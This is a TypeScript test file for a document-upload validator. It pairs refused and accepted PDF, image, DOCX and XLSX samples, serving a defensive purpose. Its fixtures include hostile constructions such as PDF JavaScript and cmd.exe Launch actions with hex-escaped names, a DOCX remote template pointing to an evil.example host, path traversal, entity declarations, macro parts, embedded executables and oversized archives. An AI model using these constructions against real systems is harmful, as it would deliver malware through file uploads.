import { documentFaults, type DocumentFaultCode } from './document-faults.table';
import { checkedDocument, type DocumentLimits } from './document-check.rules';
import { DOCUMENT_KINDS } from './document-kinds';
import { docx, gif, jpeg, objectStream, type Part, pdf, png, xlsx, zip } from './evil-documents.fixture';

const LIMITS: DocumentLimits = { documentBytes: 300_000, bytes: 2_000_000, ratio: 200, parts: 50 };
const found = (content: Buffer, name: string, declared: string | null = null, limits = LIMITS) => {
  const checked = checkedDocument({ content, name, declared }, limits);
  return checked.ok ? checked.value.kind : checked.problem.code;
};
const typeOf = (kind: string): string => DOCUMENT_KINDS.find((one) => one.kind === kind)!.mediaType;
const rels = (relationship: string): Part => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships xmlns="x">${relationship}</Relationships>`,
});
const TEMPLATE =
  '<Relationship Id="a" Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>';
const HYPERLINK = '<Relationship Id="a" Type="x/hyperlink" Target="http://www.cbp.gov/" TargetMode="External"/>';
const zeros = (bytes: number): Buffer => Buffer.alloc(bytes);

describe('A document is taken', () => {
  test.each([
    ['PDF', pdf(), 'invoice.pdf'],
    ['JPEG', jpeg(), 'invoice.JPG'],
    ['PNG', png(), 'invoice.png'],
    ['GIF', gif(), 'invoice.gif'],
    ['DOCX', docx(), 'invoice.docx'],
    ['XLSX', xlsx(), 'packing list.xlsx'],
  ])('when it is a sound %s file, with its type said or not', (kind, content, name) => {
    expect([found(content, name), found(content, name, typeOf(kind))]).toEqual([kind, kind]);
  });

  test('with the size of its picture', () => {
    for (const [content, name] of [
      [png(), 'a.png'],
      [gif(), 'a.gif'],
      [jpeg(), 'a.jpeg'],
    ] as const)
      expect(checkedDocument({ content, name, declared: null }, LIMITS)).toMatchObject({
        ok: true,
        value: { size: { width: 3, height: 2 } },
      });
  });
});

/** For each rule: what breaks it, and the nearest thing that does not. */
const PAIRS: Record<
  Exclude<DocumentFaultCode, 'DOC18' | 'DOC19'>,
  {
    name: string;
    refused: (Buffer | [Buffer, string, (string | null)?])[];
    taken: Buffer | [Buffer, string, (string | null)?];
  }
> = {
  DOC01: { name: 'a.pdf', refused: [zeros(0)], taken: pdf() },
  DOC02: { name: 'a.pdf', refused: [pdf('x'.repeat(300_000))], taken: pdf('x'.repeat(200_000)) },
  DOC03: {
    name: 'a.docx',
    refused: [Buffer.from('invoice'), zip([{ name: 'a.txt', content: 'a' }]), Buffer.from('d0cf11e0a1b11ae1', 'hex')],
    taken: docx(),
  },
  DOC04: {
    name: 'a.tif',
    refused: [Buffer.from('49492a0008000000', 'hex'), Buffer.from('4d4d002a00000008', 'hex')],
    taken: [png(), 'a.png'],
  },
  DOC05: {
    name: 'a.pdf',
    refused: [png(), [pdf(), 'a.png'], [pdf(), 'invoice'], [pdf(), 'a.pdf', 'image/png'], [xlsx(), 'a.docx']],
    taken: [pdf(), 'a.pdf', 'application/pdf'],
  },
  DOC06: {
    name: 'a.pdf',
    refused: [
      pdf().subarray(0, 300),
      [png().subarray(0, -4), 'a.png'],
      [jpeg().subarray(0, -2), 'a.jpg'],
      [gif().subarray(0, -1), 'a.gif'],
      [docx().subarray(0, -30), 'a.docx'],
    ],
    taken: pdf(),
  },
  DOC07: {
    name: 'a.png',
    refused: [
      Buffer.concat([png().subarray(0, 45), Buffer.from([9]), png().subarray(46)]),
      [docx({ name: '../evil.xml', content: '<a/>' }), 'a.docx'],
      [docx({ name: 'word/a.xml', content: 'x'.repeat(100), says: { size: 50 } }), 'a.docx'],
      [docx({ name: 'word/a.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }), 'a.docx'],
      [Buffer.from(pdf().toString('latin1').replace('startxref', 'startxxxx'), 'latin1'), 'a.pdf'],
    ],
    taken: png(),
  },
  DOC08: {
    name: 'a.pdf',
    refused: [
      Buffer.concat([pdf(), Buffer.from('MZ')]),
      Buffer.concat([pdf(), zip([{ name: 'a', content: 'b' }]), Buffer.from('%%EOF')]),
      [Buffer.concat([png(), Buffer.from('<script>')]), 'a.png'],
      [Buffer.concat([gif(), zip([{ name: 'a', content: 'b' }])]), 'a.gif'],
      [Buffer.concat([jpeg(), pdf()]), 'a.jpg'],
      [Buffer.concat([docx().subarray(0, 4), docx()]), 'a.docx'],
    ],
    taken: [Buffer.concat([jpeg(), zeros(512)]), 'a.jpg'],
  },
  DOC09: {
    name: 'a.pdf',
    refused: [
      pdf('a', '<</Encrypt 7 0 R>>'),
      [docx({ name: 'word/a.xml', content: 'a', says: { flags: 1 } }), 'a.docx'],
      [Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]), 'a.docx'],
    ],
    taken: pdf('a', '<</EncryptMetadataX true>>'),
  },
  DOC10: {
    name: 'a.pdf',
    refused: [
      pdf('a', '<</S/JavaScript/JS(app.alert(1))>>'),
      pdf('a', '<</S/J#61vaScript/JS(app.alert(1))>>'),
      pdf('a', '<</S/#4a#61#76#61#53#63#72#69#70#74/JS(app.alert(1))>>'),
      pdf('a', objectStream('7 0 <</S/JavaScript/JS(app.alert(1))>>')),
      pdf('a', objectStream('7 0 <</S/Java#53cript/JS(app.alert(1))>>', '/Type/Obj#53tm')),
      pdf('a', objectStream('7 0 <</S/JavaScript/JS(app.alert(1))>>', '')),
      pdf('a', '<</AcroForm<</XFA[(a) 7 0 R]>>>>'),
    ],
    taken: pdf('a', objectStream('7 0 <</S/GoTo/D[3 0 R/Fit]>>')),
  },
  DOC11: {
    name: 'a.pdf',
    refused: [pdf('a', '<</S/Launch/F(cmd.exe)>>'), pdf('a', objectStream('7 0 <</S/La#75nch/F(cmd.exe)>>'))],
    taken: pdf('a', '<</S/URI/URI(http://www.cbp.gov/)>>'),
  },
  DOC12: {
    name: 'a.pdf',
    refused: [
      pdf('a', '<</Type/EmbeddedFile/Length 1>>\nstream\na\nendstream'),
      pdf('a', objectStream('7 0 <</Names<</EmbeddedFiles 8 0 R>>>>')),
    ],
    taken: pdf('a', '<</Type/Metadata/Subtype/XML/Length 1>>\nstream\na\nendstream'),
  },
  DOC13: {
    name: 'a.pdf',
    refused: [
      pdf('a', objectStream('7 0 <<>>', '/Type/ObjStm', '/Filter[/ASCIIHexDecode/FlateDecode]')),
      pdf('a', objectStream('7 0 <<>>', '/Type/ObjStm', '/Filter/FlateDecode/DecodeParms<</Predictor 12>>')),
      pdf('a', '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 4>>\nstream\nabcd\nendstream'),
    ],
    taken: pdf('a', objectStream('7 0 <<>>', '/Type/ObjStm', '/Filter[/FlateDecode]')),
  },
  DOC14: {
    name: 'a.docx',
    refused: [
      docx({ name: 'word/vbaProject.bin', content: 'a' }),
      docx({ name: 'word/VBAPROJECT.BIN', content: 'a' }),
      docx({ name: 'word/activeX/activeX1.xml', content: '<a/>' }),
      zip([
        {
          name: '[Content_Types].xml',
          content: '<Types ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>',
        },
        { name: 'word/document.xml', content: '<a/>' },
      ]),
    ],
    taken: docx({ name: 'word/styles.xml', content: '<a/>' }),
  },
  DOC15: {
    name: 'a.docx',
    refused: [
      docx(rels(TEMPLATE)),
      docx(rels(TEMPLATE.replace('External', '&#x45;xternal'))),
      docx({ ...rels(''), content: Buffer.from(`\ufeff<Relationships>${TEMPLATE}</Relationships>`, 'utf16le') }),
    ],
    taken: docx(rels(HYPERLINK)),
  },
  DOC16: {
    name: 'a.xlsx',
    refused: [
      xlsx({ name: 'xl/a.xml', content: zeros(1_900_000) }),
      xlsx(
        ...[1, 2, 3].map((n) => ({
          name: `xl/${n}.xml`,
          content: Buffer.concat([zeros(900_000)]),
          says: { size: 900_000 },
        })),
      ),
      xlsx(...Array.from({ length: 60 }, (_, n) => ({ name: `xl/${n}.xml`, content: '<a/>' }))),
      [pdf('a', objectStream(zeros(2_100_000))), 'a.pdf'],
    ],
    taken: xlsx({ name: 'xl/a.xml', content: zeros(60_000) }),
  },
  DOC17: {
    name: 'a.docx',
    refused: [
      docx({ name: 'word/embeddings/a.xlsx', content: xlsx() }),
      docx({ name: 'word/embeddings/oleObject1.bin', content: Buffer.from('d0cf11e0', 'hex') }),
      docx({ name: 'word/media/a.png', content: 'MZ....' }),
    ],
    taken: docx({ name: 'word/media/a.png', content: png() }),
  },
};

describe('A document is refused, with the rule that it breaks', () => {
  test.each(Object.entries(PAIRS))('%s', (code, { name, refused, taken }) => {
    const of = (one: Buffer | [Buffer, string, (string | null)?]): string =>
      Buffer.isBuffer(one) ? found(one, name) : found(...one);
    expect(refused.map(of)).toEqual(refused.map(() => code));
    expect(documentFaults.has(of(taken))).toBe(false);
  });

  test('every rule but those that need a scanner or a clock has such a pair', () => {
    expect(documentFaults.all.map(({ code }) => code).filter((code) => !(code in PAIRS))).toEqual(['DOC18', 'DOC19']);
  });

  test('whatever the bytes are, and never by an exception', () => {
    const sound = [pdf(), png(), gif(), jpeg(), docx(), xlsx()];
    for (const content of sound) {
      for (let cut = 0; cut < content.length; cut += 7) found(content.subarray(0, cut), 'a.pdf');
      for (let at = 0; at < content.length; at += 5) {
        const changed = Buffer.from(content);
        changed[at] = changed[at]! ^ 0xff;
        found(changed, 'a.pdf');
      }
    }
  });
});
